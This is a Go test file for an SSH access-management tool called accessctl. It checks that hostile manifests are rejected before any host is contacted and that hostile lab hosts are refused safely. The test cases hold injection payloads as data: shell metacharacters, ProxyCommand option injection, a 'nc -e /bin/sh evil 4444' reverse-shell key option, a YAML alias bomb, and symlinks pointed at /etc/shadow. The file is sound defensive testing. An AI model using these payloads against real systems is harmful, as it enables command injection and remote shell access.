package main

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/accessctl/accessctl/internal/lab"
)

// This file proves issue 6 items 2 and 3: hostile manifests are rejected before any host is
// contacted, and hostile hosts (symlinks where accessctl writes, a home owned by someone else, a
// broken sshd drop-in) are refused or contained, on REAL OpenSSH lab hosts.

// tripwire is a TCP listener that counts connections: a manifest whose only host points at it
// proves that accessctl contacted no host when the count stays 0.
type tripwire struct {
	ln    net.Listener
	count atomic.Int64
}

func newTripwire(t *testing.T) *tripwire {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	tw := &tripwire{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			tw.count.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return tw
}

func (tw *tripwire) port() int { return tw.ln.Addr().(*net.TCPAddr).Port }

// TestHostileInput: each hostile manifest makes validate, plan and apply exit 1 with an error
// that names file:line:column, and no connection reaches the (tripwire) host.
func TestHostileInput(t *testing.T) {
	r := newRig(t)
	tw := newTripwire(t)
	alice := r.pub["alice-laptop"]
	fields := strings.Fields(alice)
	typ, blob := fields[0], fields[1]
	bob := strings.Fields(r.pub["bob-desk"])

	// base is a valid manifest; each case replaces one placeholder with something hostile.
	base := func(user, key, extraUser, host string) string {
		return fmt.Sprintf(`apiVersion: accessctl/v1
keypairs:
  - name: alice-laptop
    publicKey: %s
users:
  - name: %s
    keypairs: [alice-laptop]
%shostGroups:
  - name: web
    users: [%s]
    sshd: {permitRootLogin: "no"}
hosts:
%s`, key, user, extraUser, user, host)
	}
	goodHost := fmt.Sprintf("  - {name: web-1, address: 127.0.0.1, port: %d, user: admin, groups: [web]}\n", tw.port())
	q := func(s string) string { return fmt.Sprintf("%q", s) } // a YAML double-quoted scalar

	cases := []struct {
		name, manifest, want string
	}{
		{"user name with shell metacharacters", base(q("alice;touch /tmp/pwned"), alice, "", goodHost), "user name"},
		{"user name with command substitution", base(q("$(reboot)"), alice, "", goodHost), "user name"},
		{"user name starting with a dash", base(q("-oProxyCommand=x"), alice, "", goodHost), "user name"},
		{"user name with a newline", base(q("alice\nroot"), alice, "", goodHost), "users[0].name contains a control character (newline)"},
		{"user name with NUL", base(q("alice\x00root"), alice, "", goodHost), "users[0].name contains a control character (NUL)"},
		{"Unicode look-alike user name (Cyrillic a)", base(q("\u0430lice"), alice, "", goodHost), "user name"},
		{"Unicode look-alike user name (fullwidth)", base(q("ａlice"), alice, "", goodHost), "user name"},
		{"overlong user name", base(strings.Repeat("a", 33), alice, "", goodHost), "user name"},
		{"full name with a colon and newline", base("alice", alice, "  - name: eve\n    fullName: \"Eve\\nroot:x:0:0::/root:/bin/sh\"\n", goodHost), "fullName"},
		{"shell with metacharacters", base("alice", alice, "  - name: eve\n    shell: \"/bin/sh; id\"\n", goodHost), "shell"},
		{"group name with metacharacters", base("alice", alice, "  - name: eve\n    groups: [\"dev`id`\"]\n", goodHost), "group"},
		{"newline in a key: a second key smuggled", base("alice", q(alice+"\n"+r.pub["bob-desk"]), "", goodHost), "publicKey contains a control character (newline)"},
		{"NUL in a key comment", base("alice", q(typ+" "+blob+" alice\x00command=\"sh\""), "", goodHost), "publicKey"},
		{"command= option in the key line", base("alice", q(`command="/bin/sh -c 'id'" `+alice), "", goodHost), "options"},
		{"no-pty,command= options in the key line", base("alice", q(`no-pty,command="nc -e /bin/sh evil 4444" `+alice), "", goodHost), "options"},
		{"command= smuggled in the comment", base("alice", q(typ+" "+blob+` x command="/bin/sh" `+bob[0]+" "+bob[1]), "", goodHost), "more than one key"},
		{"quoted command= in the comment", base("alice", q(typ+" "+blob+` command="/bin/sh"`), "", goodHost), "comment"},
		{"CR in a key comment", base("alice", q(typ+" "+blob+" a\rcommand=x"), "", goodHost), "publicKey contains a control character (carriage return)"},
		{"overlong key line", base("alice", q(typ+" "+blob+" "+strings.Repeat("c", 20000)), "", goodHost), "publicKey"},
		{"keypair name with metacharacters", strings.Replace(base("alice", alice, "", goodHost), "alice-laptop", "k$(id)", 1), "key pair"},
		{"host address that is an ssh option", base("alice", alice, "", "  - {name: web-1, address: \"-oProxyCommand=touch /tmp/pwned\", user: admin, groups: [web]}\n"), "address"},
		{"login user with metacharacters", base("alice", alice, "", fmt.Sprintf("  - {name: web-1, address: 127.0.0.1, port: %d, user: \"admin;id\", groups: [web]}\n", tw.port())), "user"},
		{"host name with a newline", base("alice", alice, "", fmt.Sprintf("  - {name: \"web-1\\nweb-2\", address: 127.0.0.1, port: %d, user: admin, groups: [web]}\n", tw.port())), "host"},
		{"password file path escaping upwards is still just a path; env name with metacharacters is not", base("alice", alice, "  - name: eve\n    password: {env: \"X;id\"}\n", goodHost), "env"},
		{"alias bomb", "apiVersion: accessctl/v1\n" + aliasBomb() + "users: []\nhosts:\n" + goodHost, "alias bomb"},
		{"deep nesting", "apiVersion: accessctl/v1\nusers: " + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "\nhosts:\n" + goodHost, "nested"},
		{"overlong scalar", base("alice", alice, "  - name: eve\n    fullName: "+strings.Repeat("x", 100000)+"\n", goodHost), "fullName"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := r.write(t, "access.yaml", c.manifest)
			for _, cmd := range [][]string{{"validate"}, {"plan"}, {"apply", "--yes"}} {
				start := time.Now()
				code, out, errOut := r.cli(t, append(append([]string{cmd[0], "-f", p}, r.cmdFlags(cmd[0])...), cmd[1:]...)...)
				if code != exitInvalid {
					t.Errorf("%s: exit %d, want %d\nstdout:\n%s\nstderr:\n%s", cmd[0], code, exitInvalid, out, errOut)
				}
				all := out + errOut
				if !containsAny(strings.ToLower(all), c.want) || !strings.Contains(all, "access.yaml:") {
					t.Errorf("%s: error does not name %q and file:line:col:\n%s", cmd[0], c.want, all)
				}
				if strings.ContainsRune(all, 0) {
					t.Errorf("%s: raw NUL in the error output", cmd[0])
				}
				if d := time.Since(start); d > 5*time.Second {
					t.Errorf("%s took %v", cmd[0], d)
				}
			}
			if n := tw.count.Load(); n != 0 {
				t.Fatalf("a hostile manifest made accessctl connect to the host (%d connections)", n)
			}
		})
	}

	t.Run("100 MB manifest", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "huge.yaml")
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		head := base("alice", alice, "", goodHost)
		f.WriteString(head)
		line := []byte("# " + strings.Repeat("x", 1021) + "\n")
		for i := 0; i < 100<<10; i++ {
			f.Write(line)
		}
		f.Close()
		if st, _ := os.Stat(p); st.Size() < 100<<20 {
			t.Fatalf("generated only %d bytes", st.Size())
		}
		for _, cmd := range []string{"validate", "plan", "apply"} {
			start := time.Now()
			code, out, errOut := r.cli(t, append([]string{cmd, "-f", p}, r.cmdFlags(cmd)...)...)
			took := time.Since(start)
			if code != exitInvalid || !strings.Contains(out+errOut, "larger than") {
				t.Errorf("%s: exit %d\n%s", cmd, code, errOut)
			}
			if took > 5*time.Second {
				t.Errorf("%s: took %v to refuse a 100 MB manifest", cmd, took)
			}
		}
		if n := tw.count.Load(); n != 0 {
			t.Fatalf("the 100 MB manifest made accessctl connect (%d connections)", n)
		}
	})

	// The base manifest itself is fine and does reach the tripwire: the wire works.
	t.Run("control", func(t *testing.T) {
		p := r.write(t, "access.yaml", base("alice", alice, "", goodHost))
		code, out, errOut := r.cli(t, append([]string{"plan", "-f", p}, r.cmdFlags("plan")...)...)
		errOut = out + errOut
		if code != exitHost || tw.count.Load() == 0 {
			t.Errorf("control: exit %d, %d connections\n%s", code, tw.count.Load(), errOut)
		} else {
			t.Logf("control: %s", errOut)
		}
	})
}

// containsAny reports whether s contains one of the |-separated, lower-case alternatives.
func containsAny(s, alternatives string) bool {
	for _, a := range strings.Split(alternatives, "|") {
		if strings.Contains(s, strings.ToLower(a)) {
			return true
		}
	}
	return false
}

// cmdFlags are what plan and apply need to reach the tripwire (a key to log in with, a
// known_hosts file), so that only validation can keep them from connecting.
func (r *rig) cmdFlags(cmd string) []string {
	switch cmd {
	case "plan", "apply":
		kh := filepath.Join(r.dir, "known_hosts")
		if _, err := os.Stat(kh); err != nil {
			os.WriteFile(kh, nil, 0o644)
		}
		return []string{"--ssh-config", "none", "--connect-timeout", "2s", "--identity", r.priv["alice-laptop"], "--known-hosts", kh}
	}
	return nil
}

// aliasBomb is a "billion laughs" document: 9 levels of 9 aliases each.
func aliasBomb() string {
	var b strings.Builder
	b.WriteString("x-a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n")
	prev := "a"
	for _, n := range []string{"b", "c", "d", "e", "f", "g", "h", "i"} {
		fmt.Fprintf(&b, "x-%s: &%s [*%s,*%s,*%s,*%s,*%s,*%s,*%s,*%s,*%s]\n", n, n, prev, prev, prev, prev, prev, prev, prev, prev, prev)
		prev = n
	}
	return b.String()
}

// TestHostileHosts: one apply across six lab hosts, five of them hostile. Each hostile host is
// refused with a clear message and keeps its files byte for byte; the healthy host is applied; the
// run exits 3; /etc/shadow and other users' files are never written through a symlink; sshd
// keeps running where a broken drop-in makes `sshd -t` fail.
func TestHostileHosts(t *testing.T) {
	r := newRig(t,
		lab.HostSpec{Name: "ok"},
		lab.HostSpec{Name: "ssh-to-etc"},
		lab.HostSpec{Name: "keys-to-shadow"},
		lab.HostSpec{Name: "keys-to-bob"},
		lab.HostSpec{Name: "home-of-bob"},
		lab.HostSpec{Name: "broken-dropin"},
	)
	host := r.lab.Host
	// alice and bob exist already on the hostile hosts (made by someone else, as on real hosts).
	for _, h := range r.lab.Hosts[1:] {
		execOK(t, h, "useradd -m -s /bin/bash alice && useradd -m -s /bin/bash bob && install -d -o bob -g bob -m 700 /home/bob/.ssh && echo 'bob-own-file' >/home/bob/.ssh/authorized_keys && chown bob:bob /home/bob/.ssh/authorized_keys")
	}
	execOK(t, host("ssh-to-etc"), "ln -s /etc /home/alice/.ssh && chown -h alice:alice /home/alice/.ssh")
	execOK(t, host("keys-to-shadow"), "install -d -o alice -g alice -m 700 /home/alice/.ssh && ln -s /etc/shadow /home/alice/.ssh/authorized_keys && chown -h alice:alice /home/alice/.ssh/authorized_keys")
	execOK(t, host("keys-to-bob"), "install -d -o alice -g alice -m 700 /home/alice/.ssh && ln -s /home/bob/.ssh/authorized_keys /home/alice/.ssh/authorized_keys")
	execOK(t, host("home-of-bob"), "chown bob:bob /home/alice")
	execOK(t, host("broken-dropin"), "printf 'NoSuchKeyword yes\\n' >/etc/ssh/sshd_config.d/10-broken.conf")

	// What must not change, per host: the account databases, sudoers, sshd files, bob's keys.
	const fingerprint = `cd / && for f in /etc/passwd /etc/shadow /etc/group /etc/gshadow /etc/sudoers /home/bob/.ssh/authorized_keys /etc/ssh/sshd_config; do printf '%s ' "$f"; stat -c '%a %U' "$f" | tr '\n' ' '; sha256sum <"$f"; done; ls -la /etc/sudoers.d /etc/ssh/sshd_config.d /home/alice /home/alice/.ssh 2>&1 | grep -v ' \.\.\?$'; cat /etc/ssh/sshd_config.d/* 2>/dev/null | sha256sum`
	before := map[string]string{}
	for _, h := range r.lab.Hosts[1:] {
		before[h.Name] = execOK(t, h, fingerprint)
	}
	shadow := map[string][]byte{}
	for _, h := range r.lab.Hosts {
		shadow[h.Name], _ = h.ReadFile("/etc/shadow")
	}

	r.manifest(t, "  - name: alice\n    sudo: true\n    keypairs: [alice-laptop]\n  - name: bob\n    keypairs: [bob-desk]\n", "alice, bob")
	code, out, errOut := r.fleet(t, "apply", "--yes", "--format", "json")
	t.Logf("apply: exit %d\nstderr:\n%s", code, errOut)
	if code != exitHost {
		t.Errorf("exit %d, want %d", code, exitHost)
	}
	rep := parseReport(t, out)
	rep.wantHosts(t, map[string][2]string{
		// A symlinked ~/.ssh or authorized_keys, a home another user owns: a blocked change,
		// the host is not started.
		"ssh-to-etc":     {"failed", "blocked: authorized_keys alice: the ~/.ssh of alice is a symlink (to /etc)"},
		"keys-to-shadow": {"failed", "blocked: authorized_keys alice: the authorized_keys of alice is a symlink (to /etc/shadow)"},
		"keys-to-bob":    {"failed", "blocked: authorized_keys alice: the authorized_keys of alice is a symlink (to /home/bob/.ssh/authorized_keys)"},
		"home-of-bob":    {"failed", "blocked: authorized_keys alice: the home of alice (/home/alice) is owned by bob"},
		"broken-dropin":  {"error", "sshd -T failed on the host"},
	})
	// The plan names the symlinks; the report never carries the content of what they point to.
	for _, hn := range []string{"root:", "bob-own-file", "$y$", "$6$"} {
		if strings.Contains(out, hn) || strings.Contains(errOut, hn) {
			t.Errorf("the report shows %q: a symlink was followed", hn)
		}
	}
	for _, h := range r.lab.Hosts[1:] {
		if after := execOK(t, h, fingerprint); after != before[h.Name] {
			t.Errorf("%s: files changed:\nbefore:\n%s\nafter:\n%s", h.Name, before[h.Name], after)
		}
		if st := execOK(t, h, "ls /var/lib/accessctl/backup 2>/dev/null | wc -l"); st != "0\n" {
			t.Errorf("%s: backups left behind: %s", h.Name, st)
		}
	}
	for _, h := range r.lab.Hosts {
		if now, _ := h.ReadFile("/etc/shadow"); h.Name != "ok" && !bytes.Equal(now, shadow[h.Name]) {
			t.Errorf("%s: /etc/shadow changed", h.Name)
		}
	}
	consistent(t, host("ok"), "alice", "bob")
	if c := loginCode(t, host("ok"), "alice", r.priv["alice-laptop"]); c != 0 {
		t.Errorf("ok: alice cannot log in (exit %d)", c)
	}
	// sshd on the broken host still runs and takes new logins.
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if res, err := lab.SSH(ctx, host("broken-dropin"), lab.AdminUser, r.lab.IdentityFile, "echo in"); err != nil || res.Code != 0 || res.Stdout != "in\n" {
		t.Errorf("broken-dropin: new login failed: %v %+v", err, res)
	}
	if c := loginCode(t, host("keys-to-shadow"), "alice", r.priv["alice-laptop"]); c != 255 {
		t.Errorf("keys-to-shadow: alice logged in (exit %d)", c)
	}
}
